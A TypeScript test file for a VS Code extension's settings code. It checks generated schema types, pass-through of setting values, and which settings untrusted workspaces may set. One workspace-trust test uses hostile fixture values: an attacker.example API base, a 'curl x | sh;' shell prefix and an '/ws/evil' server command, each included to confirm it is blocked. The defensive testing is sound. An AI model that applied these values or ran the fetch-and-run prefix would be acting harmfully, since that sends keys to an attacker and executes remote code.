import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { RESTRICTED_SETTINGS, SETTING_KEYS } from "../../src/generated/settingKeys";
import { effective, piOverrides } from "../../src/settings";
import { root } from "./fixtures";

test("generated types and settings are current with schemas/ (else: npm run gen)", () => {
  const r = spawnSync(process.execPath, [join(root, "scripts", "gen.mjs"), "--check"], { encoding: "utf8" });
  assert.equal(r.status, 0, r.stderr);
});

test("the staleness check fails when a schema changes (a field added to SessionState)", () => {
  const schemas = join(root, "..", "..", "schemas");
  const dir = mkdtempSync(join(tmpdir(), "pi-schemas-"));
  try {
    cpSync(schemas, dir, { recursive: true });
    const file = join(dir, "pi-session-state.result.schema.json");
    const schema = JSON.parse(readFileSync(file, "utf8"));
    schema.properties.addedByTheTest = { type: "string" };
    writeFileSync(file, JSON.stringify(schema));
    const env = { ...process.env, PI_LSP_SCHEMAS_DIR: dir };
    const r = spawnSync(process.execPath, [join(root, "scripts", "gen.mjs"), "--check"], { encoding: "utf8", env });
    assert.equal(r.status, 1, r.stderr);
    assert.match(r.stderr, /generated\/types\.ts/);
    assert.doesNotMatch(r.stderr, /settingKeys|package\.json/, "only the types depend on that schema");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("each schema definition is one type: SessionState, ContextUsage and ThinkingLevel are declared once", () => {
  const types = readFileSync(join(root, "src", "generated", "types.ts"), "utf8");
  const declared = [...types.matchAll(/^export (?:type|interface) (\w+)/gm)].map((m) => m[1]);
  assert.deepEqual(declared.filter((n, i) => declared.indexOf(n) !== i), [], "a name declared twice");
  for (const name of ["SessionState", "ContextUsage", "ThinkingLevel", "TreeNode", "QueueMode"]) assert.ok(declared.includes(name), name);
  // pydantic's per-property titles would be one alias per property ("Sessionid", "Contextwindow1")
  assert.ok(!declared.some((n) => /\d$/.test(n)), `numbered copies: ${declared.filter((n) => /\d$/.test(n))}`);
  assert.deepEqual(readdirSync(join(root, "src", "generated")).sort(), ["settingKeys.ts", "types.ts"]);
});

test("the staleness check fails when a generated file differs", () => {
  const file = join(root, "src", "generated", "settingKeys.ts");
  const original = readFileSync(file, "utf8");
  try {
    writeFileSync(file, original + "// edited by hand\n");
    const r = spawnSync(process.execPath, [join(root, "scripts", "gen.mjs"), "--check"], { encoding: "utf8" });
    assert.equal(r.status, 1);
    assert.match(r.stderr, /settingKeys\.ts/);
  } finally {
    writeFileSync(file, original);
  }
});

test("every setting in settings.schema.json is contributed as pi.<key> with its default", () => {
  const schema = JSON.parse(readFileSync(join(root, "..", "..", "schemas", "settings.schema.json"), "utf8"));
  const pkg = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
  const props = pkg.contributes.configuration.properties;
  for (const key of Object.keys(schema.properties)) {
    const direct = props[`pi.${key}`];
    const nested = Object.keys(props).filter((k) => k.startsWith(`pi.${key}.`));
    assert.ok(direct || nested.length, `pi.${key} missing`);
    if (nested.length) {
      const def = schema.properties[key].default;
      for (const k of nested) assert.deepEqual(props[k].default, def[k.slice(`pi.${key}.`.length)], k);
    } else assert.deepEqual(direct.default, schema.properties[key].default, key);
    const d = direct ?? props[nested[0]];
    assert.ok(d.markdownDescription ?? d.description, `pi.${key} has a description`);
    assert.ok(!/``/.test(d.markdownDescription ?? ""), `pi.${key}: markdown, not reStructuredText`);
  }
  assert.deepEqual(props["pi.editMode"].enum, ["editor", "disk"]);
  assert.ok(props["pi.server.command"], "the extension's own settings are there too");
});

test("only what the user set is sent, nested, the most specific level winning", () => {
  const set: Record<string, { globalValue?: unknown; workspaceValue?: unknown; workspaceFolderValue?: unknown }> = {
    "compaction.keepRecentTokens": { globalValue: 10, workspaceValue: 20 },
    "permissions.bash": { workspaceFolderValue: "allow", globalValue: "deny" },
    defaultModel: { globalValue: "openai/fake-model" },
    models: { globalValue: { "openai/x": { contextWindow: 5 } } },
    apiBase: { globalValue: null },
  };
  const out = piOverrides((k) => set[k], SETTING_KEYS);
  assert.deepEqual(out, {
    compaction: { keepRecentTokens: 20 },
    permissions: { bash: "allow" },
    defaultModel: "openai/fake-model",
    models: { "openai/x": { contextWindow: 5 } },
  });
  assert.deepEqual(piOverrides(() => undefined), {});
  void execFileSync;
});

test("an untrusted workspace cannot set what runs code or where keys go; the user's own values still count", () => {
  const set: Record<string, { globalValue?: unknown; workspaceValue?: unknown; workspaceFolderValue?: unknown }> = {
    "permissions.bash": { workspaceValue: "allow", globalValue: "ask" },
    "permissions.readSecret": { workspaceFolderValue: "allow" },
    apiBase: { workspaceValue: "http://attacker.example/v1" },
    shellCommandPrefix: { workspaceValue: "curl x | sh;" },
    defaultProjectTrust: { workspaceValue: "always" },
    "compaction.keepRecentTokens": { workspaceValue: 20 },
  };
  const trusted = piOverrides((k) => set[k], SETTING_KEYS, true);
  assert.equal((trusted.permissions as Record<string, unknown>).bash, "allow");
  assert.equal(trusted.apiBase, "http://attacker.example/v1");
  assert.deepEqual(piOverrides((k) => set[k], SETTING_KEYS, false), {
    permissions: { bash: "ask" },
    compaction: { keepRecentTokens: 20 }, // not a restricted setting: the workspace may set it
  });
  assert.deepEqual(effective("pi.server.command", { workspaceValue: ["/ws/evil"], globalValue: ["/usr/bin/pi-lsp"] }, false), ["/usr/bin/pi-lsp"]);
  assert.deepEqual(effective("pi.server.command", { workspaceValue: ["/ws/evil"], globalValue: ["/usr/bin/pi-lsp"] }, true), ["/ws/evil"]);
});

test("package.json marks the same settings restricted for untrusted workspaces (from untrusted-workspaces.json)", () => {
  const pkg = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
  const u = pkg.capabilities.untrustedWorkspaces;
  assert.equal(u.supported, "limited");
  assert.deepEqual(u.restrictedConfigurations, RESTRICTED_SETTINGS);
  for (const k of ["pi.server.command", "pi.server.env", "pi.shellPath", "pi.shellCommandPrefix", "pi.apiBase", "pi.permissions.bash", "pi.permissions.readSecret", "pi.defaultProjectTrust"]) {
    assert.ok(RESTRICTED_SETTINGS.includes(k), k);
  }
  const contributed = Object.keys(pkg.contributes.configuration.properties);
  for (const k of RESTRICTED_SETTINGS) assert.ok(contributed.includes(k), `${k} is a contributed setting`);
});
